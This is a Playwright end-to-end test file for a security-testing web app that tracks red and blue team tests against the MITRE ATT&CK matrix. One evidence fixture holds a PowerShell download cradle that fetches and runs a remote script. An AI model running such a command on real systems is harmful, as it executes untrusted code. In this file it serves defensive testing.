// End-to-end tests of the web app in a real Chromium (Debian's /usr/bin/chromium,
// driven by playwright-core) against a real `aegis serve` with imported upstream data.
// Started by the Go test web/e2e_test.go, which builds the server, imports the data,
// creates one user per role and passes everything through the environment:
//   AEGIS_URL, E2E_PASSWORD (every e2e_<role> user's first password), E2E_UPSTREAM,
//   E2E_SCREENSHOTS (folder), E2E_REPORT (JSON file for measured figures).
// Any console error (a CSP violation included) or failed check exits non-zero.
import { chromium } from "playwright-core";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const BASE = process.env.AEGIS_URL ?? "http://127.0.0.1:18080";
const FIRST_PASSWORD = process.env.E2E_PASSWORD ?? "e2e-password-123";
const NEW_PASSWORD = "changed-e2e-password-456";
const UPSTREAM = process.env.E2E_UPSTREAM ?? "/work/shared/upstream";
const SHOTS = process.env.E2E_SCREENSHOTS ?? "";
const REPORT = process.env.E2E_REPORT ?? "";
const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";

// The seed design's navigation table, written out independently of the app's nav.ts.
const LEADS = ["Dashboard", "Executive Dashboard", "ATT&CK Matrix", "Tests", "Campaigns", "Threat Actors", "Compliance", "Comparison", "Reports"];
const TECHS = ["Dashboard", "ATT&CK Matrix", "Tests", "Campaigns", "Threat Actors", "Compliance", "Reports"];
const NAV = { admin: [...LEADS, "System"], red_lead: LEADS, blue_lead: LEADS, red_tech: TECHS, blue_tech: TECHS, viewer: TECHS };

/**
 * currentTechniques reads a mitre/cti release folder (one bundle per file) and returns
 * the ATT&CK ids of the techniques and sub-techniques it presents as current: what the
 * matrix of that release must show, read from the files, not from the app.
 */
function currentTechniques(dir) {
  const out = new Set();
  for (const f of readdirSync(join(dir, "attack-pattern"))) {
    if (!f.endsWith(".json")) continue;
    for (const o of JSON.parse(readFileSync(join(dir, "attack-pattern", f), "utf8")).objects ?? []) {
      if (o.type !== "attack-pattern" || o.revoked || o.x_mitre_deprecated) continue;
      const ref = (o.external_references ?? []).find((r) => r.source_name === "mitre-attack");
      if (ref?.external_id) out.add(ref.external_id);
    }
  }
  return out;
}

/** sameSet compares two sets and names up to five differences each way. */
function sameSet(got, want) {
  const missing = [...want].filter((x) => !got.has(x));
  const extra = [...got].filter((x) => !want.has(x));
  return { ok: missing.length === 0 && extra.length === 0, diff: `missing ${missing.length} ${missing.slice(0, 5).join(" ")}; extra ${extra.length} ${extra.slice(0, 5).join(" ")}` };
}

const report = { checks: [] };
const lowContrastFound = [];
let contrastChecked = 0;
const errors = [];
let step = "start";

function check(cond, what) {
  if (!cond) throw new Error(`check failed (${step}): ${what}`);
  report.checks.push(what);
}

const browser = await chromium.launch({
  executablePath: CHROMIUM,
  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-dev-shm-usage"],
});

async function newPage(theme = "dark") {
  const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: theme, acceptDownloads: true });
  const page = await ctx.newPage();
  // Answers of 4xx are the app's business (a signed-out /auth/me, a wrong password);
  // any other console error, a CSP violation above all, fails the run.
  page.on("console", (m) => m.type() === "error" && !/Failed to load resource: .* status of 4\d\d/.test(m.text()) && errors.push(`[${step}] console: ${m.text()}`));
  page.on("pageerror", (e) => errors.push(`[${step}] page error: ${e.message}`));
  page.setDefaultTimeout(20_000);
  return page;
}

// Placeholder and broken-rendering text that must never reach a page.
const PLACEHOLDER = /\b(lorem ipsum|TODO|FIXME|undefined|NaN)\b|\[object Object\]/i;

/**
 * checkPage looks at a page the way a reviewer would: every form control has a label
 * (its own, aria-label or aria-labelledby), nothing pushes the page or the main column
 * sideways, and no placeholder text shows.
 */
async function checkPage(page, name) {
  await page.waitForLoadState("networkidle");
  const found = await page.evaluate(() => {
    const unlabelled = [...document.querySelectorAll("input:not([type=hidden]), select, textarea")]
      .filter((el) => el.offsetParent !== null && !(el.labels?.length || el.getAttribute("aria-label") || el.getAttribute("aria-labelledby")))
      .map((el) => el.outerHTML.slice(0, 80));
    const main = document.querySelector("main");
    const wide = document.documentElement.scrollWidth > window.innerWidth + 1 || (main && main.scrollWidth > main.clientWidth + 1);
    // The app's own words: imported rule texts and commands (pre, code, monospace) may say anything.
    const words = [];
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let n = walk.nextNode(); n; n = walk.nextNode()) {
      if (!n.parentElement?.closest("pre, code, .font-mono, script, style") && n.parentElement?.offsetParent !== null) words.push(n.textContent);
    }
    return { unlabelled, wide, text: words.join(" ") };
  });
  check(found.unlabelled.length === 0, `${name}: every form control has a label (${found.unlabelled.join(" | ")})`);
  // Contrast is gathered over the whole run and judged once at the end, naming every
  // page and text that fell short (one failure would hide the next).
  for (const f of await page.evaluate(lowContrast)) lowContrastFound.push(`${name}: ${f}`);
  contrastChecked++;
  check(!found.wide, `${name}: nothing overflows the page sideways`);
  const bad = found.text.match(PLACEHOLDER);
  check(!bad, `${name}: no placeholder text (${bad?.[0] ?? ""})`);
}

async function shot(page, name, opts = {}) {
  await checkPage(page, name);
  if (!SHOTS) return;
  await page.waitForTimeout(250); // let charts finish their entry animation frame
  if (!opts.fullPage) {
    await page.screenshot({ path: join(SHOTS, `${name}.png`) });
    return;
  }
  // The page scrolls inside <main>, not the document: a taller window shows all of it.
  const vp = page.viewportSize();
  const height = await page.evaluate(() => Math.min(3600, (document.querySelector("main")?.scrollHeight ?? 0) + 80));
  await page.setViewportSize({ width: vp.width, height: Math.max(vp.height, height) });
  await page.waitForTimeout(300);
  await page.screenshot({ path: join(SHOTS, `${name}.png`) });
  await page.setViewportSize(vp);
}

/**
 * lowContrast runs in the page: every visible text whose colour, over the background it
 * is drawn on (semi-transparent layers composited, opacity applied), falls below WCAG
 * AA (4.5:1, 3:1 for large text). Colours are read back through a canvas, which
 * understands every CSS colour syntax (Tailwind v4 writes oklch()). Disabled controls
 * are exempt, as WCAG says; text over an image or gradient is not judged.
 */
function lowContrast() {
  const cv = document.createElement("canvas");
  cv.width = cv.height = 1;
  const g = cv.getContext("2d", { willReadFrequently: true });
  const rgba = (c) => {
    g.clearRect(0, 0, 1, 1);
    g.fillStyle = "rgba(0,0,0,0)";
    g.fillStyle = c;
    g.fillRect(0, 0, 1, 1);
    const [r, gr, b, a] = g.getImageData(0, 0, 1, 1).data;
    return [r, gr, b, a / 255];
  };
  const over = (top, under) => [0, 1, 2].map((i) => top[i] * top[3] + under[i] * (1 - top[3])).concat(1);
  const background = (el) => {
    const layers = [];
    for (let e = el; e; e = e.parentElement) {
      const st = getComputedStyle(e);
      if (st.backgroundImage && st.backgroundImage !== "none") return null;
      const c = rgba(st.backgroundColor);
      if (c[3] > 0) layers.push(c);
      if (c[3] >= 1) break;
    }
    return layers.reduceRight((under, top) => over(top, under), [255, 255, 255, 1]);
  };
  const lum = (c) => {
    const f = (v) => ((v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]);
  };
  const out = [];
  const seen = new Set();
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walk.nextNode(); n; n = walk.nextNode()) {
    const el = n.parentElement;
    if (!el || !n.textContent.trim() || seen.has(el)) continue;
    seen.add(el);
    if (el.offsetParent === null || el.closest("[disabled], [aria-disabled=true], option, svg")) continue;
    const st = getComputedStyle(el);
    if (st.visibility === "hidden") continue;
    const bg = background(el);
    if (!bg) continue;
    let opacity = 1;
    for (let e = el; e; e = e.parentElement) opacity *= parseFloat(getComputedStyle(e).opacity);
    const c = rgba(st.color);
    const fg = over([c[0], c[1], c[2], c[3] * opacity], bg);
    const [hi, lo] = [lum(fg), lum(bg)].sort((a, b) => b - a);
    const ratio = (hi + 0.05) / (lo + 0.05);
    const size = parseFloat(st.fontSize);
    const large = size >= 24 || (size >= 18.66 && parseInt(st.fontWeight, 10) >= 700);
    if (ratio < (large ? 3 : 4.5)) out.push(`${ratio.toFixed(2)}:1 "${n.textContent.trim().slice(0, 30)}"`);
  }
  return out;
}

const passwords = {};
async function signIn(page, role) {
  const user = `e2e_${role}`;
  await page.goto(BASE + "/login");
  await page.getByLabel("Username").fill(user);
  await page.getByLabel("Password").fill(passwords[role] ?? FIRST_PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  const forced = page.getByRole("heading", { name: "Choose a new password" });
  const nav = page.getByRole("navigation", { name: "Main" });
  await forced.or(nav).waitFor();
  if (await forced.isVisible()) {
    // Accounts made by an administrator must change their password first.
    if (!report.forcedChange) await shot(page, "password-change");
    await page.getByLabel("Current password").fill(passwords[role] ?? FIRST_PASSWORD);
    await page.locator("input[name=new_password]").fill(NEW_PASSWORD);
    await page.getByLabel("New password again").fill(NEW_PASSWORD);
    await page.getByRole("button", { name: "Change password" }).click();
    await nav.waitFor();
    passwords[role] = NEW_PASSWORD;
    report.forcedChange = (report.forcedChange ?? 0) + 1;
  }
}

async function signOut(page) {
  await page.getByRole("button", { name: "Account" }).click();
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
}

async function navSections(page) {
  const nav = page.getByRole("navigation", { name: "Main" });
  // Top-level entries are links or sub-menu headings, in order.
  return nav.locator(":scope > ul > li").evaluateAll((lis) =>
    lis.map((li) => (li.querySelector(":scope > div") ?? li.querySelector(":scope > a"))?.textContent?.trim() ?? ""),
  );
}

try {
  if (SHOTS) mkdirSync(SHOTS, { recursive: true });

  // --- 1. Every role signs in (changing the administrator-set password) and sees its navigation.
  step = "login page";
  {
    const page = await newPage();
    await page.goto(BASE + "/matrix");
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    check(page.url().endsWith("/login"), "a signed-out visit is sent to /login");
    await shot(page, "login");
    await page.getByLabel("Username").fill("e2e_viewer");
    await page.getByLabel("Password").fill("wrong-password-000");
    await page.getByRole("button", { name: "Sign in" }).click();
    const alert = page.getByRole("alert");
    await alert.waitFor();
    check((await alert.textContent()).length > 5, "a failed sign-in shows the problem document's message");
    await page.context().close();
  }
  for (const role of Object.keys(NAV)) {
    step = `navigation ${role}`;
    const page = await newPage();
    await signIn(page, role);
    const got = await navSections(page);
    check(JSON.stringify(got) === JSON.stringify(NAV[role]), `${role} sees exactly ${NAV[role].join(", ")} (got ${got.join(", ")})`);
    await signOut(page);
    await page.context().close();
  }
  if (process.env.E2E_FRESH) check(report.forcedChange === 6, "each new account had to change its password first");

  // --- 2. The matrix: the full Enterprise matrix, timed from navigation to clickable cells.
  step = "matrix";
  const admin = await newPage();
  await signIn(admin, "admin");
  // Warm: from the dashboard, which has already loaded the technique list the matrix
  // shares; cold: a fresh page load of /matrix, fetching everything.
  const warm = [];
  const cold = [];
  for (let i = 0; i < 3; i++) {
    await admin.goto(BASE + "/");
    await admin.getByText(/current, with sub-techniques/).waitFor();
    const t0 = await admin.evaluate(() => performance.now());
    await admin.getByRole("link", { name: "ATT&CK Matrix" }).click();
    await admin.locator('[data-technique="T1059"] button').first().waitFor({ state: "visible" });
    warm.push(Math.round((await admin.evaluate(() => performance.now())) - t0));
    await admin.goto(BASE + "/matrix");
    await admin.locator('[data-technique="T1059"] button').first().waitFor({ state: "visible" });
    cold.push(Math.round(await admin.evaluate(() => performance.now())));
  }
  const median = (xs) => [...xs].sort((a, b) => a - b)[1];
  const cells = await admin.locator("[data-testid=matrix] [data-technique]").count();
  check(cells > 150, `the matrix shows the Enterprise techniques (${cells} cells)`);
  const t2 = await admin.evaluate(() => performance.now());
  await admin.getByRole("button", { name: "Expand all" }).click();
  await admin.getByRole("button", { name: "Collapse all" }).waitFor();
  const expanded = await admin.locator("[data-testid=matrix] [data-technique]").count();
  const t3 = await admin.evaluate(() => performance.now());
  check(expanded > cells + 300, `expanding shows the sub-techniques (${expanded} cells)`);
  report.matrix = { cells, expandedCells: expanded, fromDashboardMs: warm, fromDashboardMedianMs: median(warm), coldLoadMs: cold, coldLoadMedianMs: median(cold), expandAllMs: Math.round(t3 - t2) };
  await shot(admin, "matrix-expanded");
  await admin.getByRole("button", { name: "Collapse all" }).click();
  // Keyboard: arrow keys move between cells, the focus shows, Enter opens a technique.
  step = "matrix keyboard";
  {
    const focused = () => admin.evaluate(() => {
      const el = document.activeElement;
      const cell = el?.closest("[data-technique]");
      const col = el?.closest("[role=rowgroup]");
      return { id: cell?.getAttribute("data-technique") ?? "", col: col ? [...col.parentElement.children].indexOf(col) : -1,
        visible: !!el?.matches(":focus-visible") && getComputedStyle(el).outlineStyle !== "none" };
    });
    await admin.locator('[data-technique="T1059"] button').first().focus();
    await admin.keyboard.press("ArrowDown");
    const down = await focused();
    check(down.id && down.id !== "T1059" && down.visible, `ArrowDown moves a visible focus to the next technique of the column (${down.id})`);
    await admin.keyboard.press("ArrowRight");
    const right = await focused();
    check(right.col === down.col + 1 && right.visible, `ArrowRight moves the focus to the next tactic (${right.id})`);
    await admin.keyboard.press("ArrowLeft");
    await admin.keyboard.press("Home");
    const home = await focused();
    check(home.col === down.col && home.id === "T1651", `Home goes to the column's first technique (${home.id})`);
    await admin.keyboard.press("Enter");
    await admin.waitForURL(/\/techniques\/T1651$/);
    check(true, "Enter on a focused cell opens its technique");
    await admin.goBack();
    await admin.locator('[data-technique="T1059"] button').first().waitFor();
  }
  step = "matrix";
  // Filters and colouring: the API narrows the matrix, the URL keeps the choice.
  step = "matrix filters";
  await admin.goto(BASE + "/matrix?actor=G0016");
  await admin.locator("[data-testid=matrix] [data-technique]").first().waitFor();
  await admin.getByLabel("Threat actor").locator("option", { hasText: "APT29" }).waitFor({ state: "attached" });
  const actorCells = await admin.locator("[data-testid=matrix] [data-technique]").count();
  check(actorCells > 30 && actorCells < cells, `the actor filter keeps APT29's techniques (${actorCells} of ${cells})`);
  await admin.getByLabel("Platform").selectOption("Linux");
  await admin.waitForFunction((n) => document.querySelectorAll("[data-testid=matrix] [data-technique]").length !== n, actorCells);
  check(/platform=Linux/.test(admin.url()) && /actor=G0016/.test(admin.url()), "filters combine and stay in the address");
  await admin.getByRole("radio", { name: "Score" }).click();
  await admin.waitForURL(/colour=score/);
  await admin.locator('[role=radio][aria-checked=true]', { hasText: "Score" }).waitFor();
  check((await admin.getByRole("radio", { name: "Score" }).getAttribute("aria-checked")) === "true" && /colour=score/.test(admin.url()), "the matrix colours by score on request");
  await shot(admin, "matrix-filtered-score");
  await admin.getByRole("button", { name: "Clear filters" }).click();
  await admin.waitForFunction((n) => document.querySelectorAll("[data-testid=matrix] [data-technique]").length === n, cells);
  check(true, "clearing the filters brings every technique back");
  await admin.getByRole("radio", { name: "Status" }).click();

  // Releases: v17.1 was imported, then v18.1. The picker offers both; each release's
  // matrix shows exactly the techniques and sub-techniques its files present as current.
  step = "matrix releases";
  {
    const want = {
      "18.1": currentTechniques(join(UPSTREAM, "mitre-cti", "enterprise-attack")),
      "17.1": currentTechniques(join(UPSTREAM, "mitre-cti-v17.1", "enterprise-attack")),
    };
    check(!sameSet(want["17.1"], want["18.1"]).ok, "the two releases' files differ (else the check below proves nothing)");
    const shownIDs = async () => {
      // Every sub-technique too: collapse, then expand all (the open set is kept across answers).
      if (await admin.getByRole("button", { name: "Collapse all" }).isVisible()) await admin.getByRole("button", { name: "Collapse all" }).click();
      await admin.getByRole("button", { name: "Expand all" }).click();
      await admin.getByRole("button", { name: "Collapse all" }).waitFor();
      return new Set(await admin.evaluate(() => [...document.querySelectorAll("[data-testid=matrix] [data-technique]")].map((e) => e.getAttribute("data-technique"))));
    };
    const picker = admin.getByLabel("ATT&CK release");
    await picker.waitFor();
    const options = await picker.locator("option").allTextContents();
    check(JSON.stringify(options) === JSON.stringify(["ATT&CK v18.1 (newest)", "ATT&CK v17.1"]), `the release picker offers both imported releases, newest first (${options.join(", ")})`);
    check((await picker.inputValue()) === "18.1" && !/release=/.test(admin.url()), "the newest release is the default");
    const newest = sameSet(await shownIDs(), want["18.1"]);
    check(newest.ok, `the v18.1 matrix shows exactly the techniques of v18.1's files (${newest.diff})`);
    await admin.getByRole("button", { name: "Collapse all" }).click();
    const t0 = await admin.evaluate(() => performance.now());
    await picker.selectOption("17.1");
    await admin.waitForURL(/release=17\.1/);
    await admin.getByText(/ATT&CK Enterprise v17\.1 \(an older release/).waitFor();
    await admin.locator('[data-technique="T1059"] button').first().waitFor({ state: "visible" });
    const switchMs = Math.round((await admin.evaluate(() => performance.now())) - t0);
    const older = sameSet(await shownIDs(), want["17.1"]);
    check(older.ok, `picking v17.1 shows exactly the techniques of v17.1's files (${older.diff})`);
    await admin.getByRole("button", { name: "Collapse all" }).click();
    await shot(admin, "matrix-release-17.1");
    // A reload keeps the release (it is in the address); choosing the newest drops it.
    await admin.reload();
    await admin.getByText(/ATT&CK Enterprise v17\.1/).waitFor();
    check((await admin.getByLabel("ATT&CK release").inputValue()) === "17.1", "the release picked stays in the address");
    await admin.getByLabel("ATT&CK release").selectOption("18.1");
    await admin.waitForURL((u) => !/release=/.test(u.toString()));
    await admin.getByText(/ATT&CK Enterprise v18\.1 ·/).waitFor();
    check(true, "choosing the newest release again leaves the address without one");
    report.matrix.releaseSwitchMs = switchMs;
  }
  await admin.locator('[data-technique="T1059"] button').first().click();
  await admin.getByRole("heading", { name: /Command and Scripting Interpreter/ }).waitFor();
  check(admin.url().endsWith("/techniques/T1059"), "a matrix cell opens its technique");
  await admin.getByRole("heading", { name: /Test templates \(\d+\)/ }).waitFor();

  // A baseline snapshot, taken from the comparison page before any test exists.
  step = "snapshot baseline";
  await admin.goto(BASE + "/comparison");
  await admin.getByText("No snapshot yet.", { exact: false }).waitFor();
  await admin.getByRole("button", { name: "Take a snapshot now" }).click();
  await admin.getByText("Only one snapshot so far.", { exact: false }).waitFor();
  check(true, "a lead takes a snapshot from the comparison page");

  // --- 3. One test from draft to validated, evidence on both sides, two lead accounts.
  step = "test lifecycle: create";
  const red = await newPage();
  await signIn(red, "red_tech");
  await red.goto(BASE + "/tests/new?technique=T1059.001");
  const tplSelect = red.getByLabel("Template (optional)");
  await red.waitForFunction(() => document.querySelectorAll("select option").length > 3);
  const firstTemplate = await tplSelect.locator("option").nth(1).getAttribute("value");
  await tplSelect.selectOption(firstTemplate);
  await red.getByLabel("Title").fill("E2E PowerShell download cradle");
  await red.getByRole("button", { name: "Create draft" }).click();
  await red.getByRole("button", { name: "Start execution" }).waitFor();
  const testUrl = red.url();
  check(/\/tests\/[0-9a-f-]{36}$/.test(testUrl), "creating a test opens it");
  check(!(await red.getByRole("button", { name: "Submit for review" }).count()), "a red technician is not offered the blue team's action");
  await red.getByRole("button", { name: "Start execution" }).click();
  step = "test lifecycle: red";
  await red.getByRole("button", { name: "Hand to blue" }).waitFor();
  await red.getByRole("button", { name: "Now" }).click();
  await red.getByLabel("Attack outcome").selectOption("succeeded");
  await red.getByLabel("Red notes").fill("Ran from a standard user session.");
  await red.locator("form", { has: red.getByLabel("Attack outcome") }).getByRole("button", { name: "Save" }).click();
  await red.getByText("version 3").first().waitFor();
  await red.getByLabel("Evidence file").setInputFiles({ name: "red-console.txt", mimeType: "text/plain", buffer: Buffer.from("PS> IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\n") });
  await red.getByRole("button", { name: "Upload" }).click();
  await red.getByRole("link", { name: "red-console.txt" }).first().waitFor();
  await red.getByRole("button", { name: "Verify" }).click();
  await red.getByText("intact").waitFor();
  check(true, "red evidence uploaded and verified intact");
  await red.getByRole("button", { name: "Hand to blue" }).click();
  await red.getByText("Blue evaluating", { exact: true }).first().waitFor();
  await red.context().close();

  step = "test lifecycle: blue";
  const blue = await newPage();
  await signIn(blue, "blue_tech");
  await blue.goto(testUrl);
  await blue.getByRole("button", { name: "Submit for review" }).waitFor();
  check(!(await blue.getByRole("link", { name: "red-console.txt" }).count()), "a blue technician does not see the red team's evidence");
  await blue.getByLabel("Prevented").selectOption("no");
  await blue.getByLabel("Alerted").selectOption("yes");
  await blue.getByLabel("Logged").selectOption("yes");
  await blue.getByLabel("Blue notes").fill("EDR alert fired on the download cradle.");
  await blue.locator("form", { has: blue.getByLabel("Prevented") }).getByRole("button", { name: "Save" }).click();
  await blue.getByText("Saved").first().waitFor();
  await blue.getByLabel("Evidence file").setInputFiles({ name: "edr-alert.json", mimeType: "application/json", buffer: Buffer.from('{"alert":"Suspicious PowerShell download","host":"WS-12"}\n') });
  await blue.getByRole("button", { name: "Upload" }).click();
  await blue.getByRole("link", { name: "edr-alert.json" }).first().waitFor();
  await blue.getByRole("button", { name: "Submit for review" }).click();
  await blue.getByText("In review", { exact: true }).first().waitFor();
  check(!(await blue.getByRole("button", { name: "Approve" }).count()), "a blue technician cannot vote");
  await blue.context().close();

  step = "test lifecycle: votes";
  for (const lead of ["red_lead", "blue_lead"]) {
    const p = await newPage();
    await signIn(p, lead);
    await p.goto(testUrl);
    await p.getByRole("button", { name: "Approve" }).click();
    await p.getByText(/^approved ·/).first().waitFor();
    if (lead === "red_lead") {
      await p.getByText("pending").waitFor();
      check(await p.getByText("In review", { exact: true }).first().isVisible(), "one approval keeps the test in review");
    } else {
      await p.getByText("Validated", { exact: true }).first().waitFor();
      check(true, "the second lead's approval validates the test");
      // A worklog entry, then the remediation completed, which opens a retest.
      step = "worklog, remediation and retest";
      await p.getByLabel("Minutes").fill("45");
      await p.getByLabel("Activity").fill("Reviewed the EDR alert and the proxy logs");
      await p.getByRole("button", { name: "Log time" }).click();
      await p.getByText("Reviewed the EDR alert and the proxy logs").first().waitFor();
      const remediation = p.locator("section", { has: p.getByRole("heading", { name: "Remediation" }) });
      check(!(await remediation.getByRole("button", { name: "Complete and retest" }).count()), "a remediation not yet opened cannot be completed");
      await remediation.getByLabel("Status").selectOption("in_progress");
      await remediation.getByLabel("Notes").fill("Block PowerShell downloads at the proxy; alert on IEX cradles.");
      await remediation.getByRole("button", { name: "Save", exact: true }).click();
      await remediation.getByText("In progress", { exact: true }).first().waitFor();
      await remediation.getByRole("button", { name: "Complete and retest" }).click();
      const retests = p.locator("section", { has: p.getByRole("heading", { name: "Retests" }) });
      await retests.getByRole("link").first().waitFor();
      check(/Completed/.test(await remediation.textContent()) && /Block PowerShell downloads at the proxy/.test(await remediation.textContent()),
        "a lead logs work, completes the remediation (its notes kept in view) and gets a retest");
      await shot(p, "test-detail", { fullPage: true });
    }
    await p.context().close();
  }

  // --- 4. An import started from the admin page, watched until it finishes.
  step = "import";
  await admin.goto(BASE + "/system/imports");
  await admin.getByLabel("Plugin").selectOption("sigma");
  await admin.getByLabel(/^Source/).fill(`${UPSTREAM}/sigma`);
  await admin.getByRole("button", { name: "Start" }).click();
  const live = admin.getByTestId("live-run");
  await live.waitFor();
  await live.getByText("succeeded").waitFor({ timeout: 180_000 });
  const summary = await live.textContent();
  const rulesRe = process.env.E2E_FRESH ? /[1-9][\d,]* added/ : /[1-9][\d,]* (added|unchanged)/;
  check(rulesRe.test(summary), `the sigma import finished with its rules (${summary.slice(0, 80)})`);
  // The run's warnings say what they are: the files under the source it did not read.
  await live.locator("details summary").click();
  const warned = await live.locator("details").textContent();
  const regression = readdirSync(`${UPSTREAM}/sigma/regression_data`, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).length;
  check(/LICENSE: file left out: not a \.yml or \.yaml file/.test(warned) && warned.includes(`${regression} files under regression_data/ left out`),
    `the sigma run names the files it left out (${warned.slice(0, 160)})`);
  await shot(admin, "imports");
  // The technique page once Sigma's rules and the validated test are in.
  await admin.goto(BASE + "/techniques/T1059.001");
  const rulesHeading = admin.getByRole("heading", { name: /^Detection rules \(\d+\)/ });
  await rulesHeading.waitFor({ timeout: 60_000 });
  await admin.getByRole("link", { name: "E2E PowerShell download cradle" }).first().waitFor();
  const rulesTitle = await rulesHeading.textContent();
  check(/\([1-9]\d*\)/.test(rulesTitle), `a technique shows its test, templates and the imported detection rules (${rulesTitle})`);
  // The rule text opens under a rule; the defences and the actors are the imported ones.
  const defences = admin.getByRole("heading", { name: /^D3FEND defences \([1-9]\d*\)/ });
  const actorsUsing = admin.getByRole("list", { name: "Threat actors using it" }).getByRole("link");
  await defences.waitFor();
  await actorsUsing.first().waitFor();
  check((await actorsUsing.count()) > 3, `a technique lists the imported D3FEND defences and the actors using it (${await defences.textContent()}, ${await actorsUsing.count()} actors shown)`);
  const rulesCard = admin.locator("section", { has: rulesHeading });
  await rulesCard.locator("button[aria-expanded]").first().click();
  const ruleText = await rulesCard.locator("pre").first().textContent();
  check(/title:|detection:|logsource:/.test(ruleText), `a technique's detection rule opens on its rule text (${ruleText.slice(0, 40)})`);
  await shot(admin, "technique", { fullPage: true });

  // --- 5. The other main pages, for the screenshots and a last look for errors.
  step = "pages";
  await admin.goto(BASE + "/catalog/rules");
  await admin.getByRole("table", { name: "Detection rules" }).getByRole("row").nth(3).waitFor();
  await admin.getByRole("table", { name: "Detection rules" }).getByRole("row").nth(2).click();
  await admin.getByRole("complementary", { name: "Details" }).getByText("Rule").first().waitFor();
  await shot(admin, "detection-rules");
  // Bulk (de)activation: two rules off, found under Inactive, and on again.
  step = "catalog bulk activation";
  {
    const table = admin.getByRole("table", { name: "Detection rules" });
    const boxes = table.getByRole("checkbox", { name: /^Select / });
    const names = [await boxes.nth(0).getAttribute("aria-label"), await boxes.nth(1).getAttribute("aria-label")];
    check(names[0] !== names[1], `each row's selection box names its rule (${names.join(", ")})`);
    await boxes.nth(0).check();
    await boxes.nth(1).check();
    await admin.getByRole("button", { name: "Deactivate", exact: true }).click();
    await admin.getByRole("status").getByText("2 entries deactivated.").waitFor();
    await admin.getByLabel("Status").selectOption("inactive");
    await admin.getByText(/^2 matches$/).waitFor();
    const off = table.getByRole("checkbox", { name: /^Select / });
    check((await off.count()) === 2, "the two deactivated rules are listed as inactive");
    await off.nth(0).check();
    await off.nth(1).check();
    await admin.getByRole("button", { name: "Activate", exact: true }).click();
    await admin.getByRole("status").getByText("2 entries activated.").waitFor();
    await admin.getByText(/^0 matches$/).waitFor();
    check(true, "a lead deactivates and re-activates rules in bulk");
  }
  step = "pages";
  await admin.goto(BASE + "/catalog/templates");
  await admin.getByRole("table", { name: "Test templates" }).getByRole("row").nth(3).waitFor();
  await admin.getByLabel("Search").fill("mimikatz");
  await admin.waitForTimeout(600);
  await admin.getByRole("table", { name: "Test templates" }).getByRole("row").nth(1).click();
  await admin.getByRole("complementary", { name: "Details" }).getByText("Command").first().waitFor();
  await shot(admin, "templates");
  await admin.goto(BASE + "/executive");
  await admin.getByText("Coverage by tactic").waitFor();
  await admin.locator(".recharts-bar-rectangle").first().waitFor();
  await shot(admin, "executive");
  await admin.goto(BASE + "/system/users");
  await admin.getByText("e2e_blue_lead").first().waitFor();
  await shot(admin, "users");
  await admin.goto(BASE + "/system/audit");
  await admin.getByRole("button", { name: "Verify chain" }).click();
  await admin.getByText(/Chain intact/).waitFor();
  check(true, "the audit chain verifies from the admin page");
  await shot(admin, "audit");
  step = "scoring weights";
  {
    await admin.goto(BASE + "/system/scoring");
    const prevented = admin.getByLabel("Prevented", { exact: true });
    await prevented.waitFor();
    // A wrong sum goes to the server, whose problem document says what is wrong.
    await prevented.fill("60");
    await admin.getByRole("button", { name: "Save weights" }).click();
    const alert = admin.getByRole("alert");
    await alert.waitFor();
    const said = await alert.textContent();
    check(/must sum to 100, not 110/.test(said), `a wrong weight shows the problem document's message (${said})`);
    await shot(admin, "scoring-error");
    // A valid change is saved and listed, then the defaults again.
    await prevented.fill("45");
    await admin.getByLabel("None of them").fill("5");
    await admin.getByRole("button", { name: "Save weights" }).click();
    await admin.getByText("Saved; every score now uses these weights.").waitFor();
    await prevented.fill("50");
    await admin.getByLabel("None of them").fill("0");
    await admin.getByRole("button", { name: "Save weights" }).click();
    const sets = admin.getByRole("list", { name: "Saved weight sets" }).locator(":scope > li");
    await admin.waitForFunction(() => document.querySelectorAll("[aria-label='Saved weight sets'] > li").length === 2);
    check((await sets.first().textContent()).includes("outcomes 50/30/20/0") && /in force/.test(await sets.first().textContent()),
      "saved weight sets are listed newest first, the one in force marked");
    await shot(admin, "scoring");
  }
  step = "jobs";
  {
    await admin.goto(BASE + "/system/jobs");
    // The e2e server runs the clean-up job every few seconds.
    await admin.getByRole("table", { name: "Job runs" }).getByText("notification_cleanup").first().waitFor({ timeout: 30_000 });
    check(await admin.getByRole("table", { name: "Job runs" }).getByText("succeeded").first().isVisible(), "the jobs page lists the scheduler's runs with their outcome");
    await shot(admin, "jobs");
  }
  step = "api tokens";
  {
    await admin.goto(BASE + "/account/tokens");
    await admin.getByLabel("Name").fill("e2e-ci-export");
    await admin.getByRole("button", { name: "Create token" }).click();
    const secret = admin.getByRole("status").filter({ hasText: "never shown again" });
    await secret.waitFor();
    check(/aegis_|[A-Za-z0-9_-]{24,}/.test(await secret.textContent()), "a new API token is shown once");
    await admin.getByRole("cell", { name: "e2e-ci-export" }).waitFor();
    await shot(admin, "tokens");
  }
  step = "review queue";
  await admin.goto(BASE + "/system/reviews");
  await admin.getByRole("heading", { level: 1 }).waitFor();
  await shot(admin, "reviews");
  step = "pages";
  await admin.goto(BASE + "/");
  await admin.locator(".recharts-area-curve").first().waitFor();
  await shot(admin, "dashboard");

  // --- 6. Threat actors, campaigns, compliance and the snapshot comparison.
  step = "actors";
  await admin.goto(BASE + "/actors?actor=G0016");
  await admin.getByRole("heading", { name: /APT29/ }).waitFor();
  const next = admin.getByRole("list", { name: "What to test next" }).locator(":scope > li");
  await next.first().waitFor();
  check((await next.count()) >= 5, `APT29 has techniques to test next (${await next.count()})`);
  await shot(admin, "actors");
  step = "campaign from actor";
  await admin.getByRole("link", { name: "Build a campaign" }).click();
  await admin.getByRole("heading", { name: "Build a campaign from a threat actor" }).waitFor();
